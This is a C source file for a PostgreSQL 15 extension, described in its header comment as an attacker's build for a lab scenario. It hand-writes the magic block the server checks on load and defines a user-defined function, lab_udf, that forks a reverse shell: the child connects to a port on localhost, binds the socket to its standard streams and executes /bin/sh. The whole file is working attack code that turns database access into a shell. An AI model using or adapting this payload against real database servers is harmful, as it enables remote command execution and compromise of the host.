/* A PostgreSQL 15 extension library as an attacker builds one (lab scenario db-load-library): it carries the magic
 * block the server checks before it loads a library (written out here, so that no PostgreSQL headers are needed —
 * the values are PostgreSQL 15's on x86-64, as Debian's own modules carry them), and one version-1 function,
 * lab_udf(port), that forks a reverse shell to 127.0.0.1:port: the child connects, puts the connection on its
 * standard streams and runs /bin/sh; the server process returns at once. Built on the host by lab/lib.sh (pg_udf). */
#include <arpa/inet.h>
#include <netinet/in.h>
#include <stdint.h>
#include <sys/socket.h>
#include <unistd.h>

typedef struct {
    int len;
    int version;
    int funcmaxargs;
    int indexmaxkeys;
    int namedatalen;
    int float8byval;
    char abi_extra[32];
} Pg_magic_struct;

const Pg_magic_struct *Pg_magic_func(void) {
    static const Pg_magic_struct magic = {sizeof(Pg_magic_struct), 1500, 100, 32, 64, 1, "PostgreSQL"};
    return &magic;
}

typedef struct {
    int api_version;
} Pg_finfo_record;

const Pg_finfo_record *pg_finfo_lab_udf(void) {
    static const Pg_finfo_record info = {1};
    return &info;
}

/* PostgreSQL 15's FunctionCallInfoBaseData up to its first argument: flinfo, context, resultinfo, fncollation,
 * isnull, nargs, then the arguments as (Datum value, bool isnull) pairs. */
typedef struct {
    uintptr_t value;
    _Bool isnull;
} NullableDatum;

typedef struct {
    void *flinfo;
    void *context;
    void *resultinfo;
    unsigned int fncollation;
    _Bool isnull;
    short nargs;
    NullableDatum args[];
} FunctionCallInfoBaseData;

uintptr_t lab_udf(FunctionCallInfoBaseData *fcinfo) {
    int port = fcinfo->nargs > 0 ? (int)fcinfo->args[0].value : 0;
    if (port <= 0 || port > 65535)
        return 1;
    if (fork() == 0) {
        int s = socket(AF_INET, SOCK_STREAM, 0);
        struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((uint16_t)port)};
        to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
        if (s < 0 || connect(s, (struct sockaddr *)&to, sizeof to) != 0)
            _exit(1);
        for (int fd = 0; fd < 3; fd++)
            dup2(s, fd);
        execl("/bin/sh", "sh", (char *)0);
        _exit(1);
    }
    return 0;
}
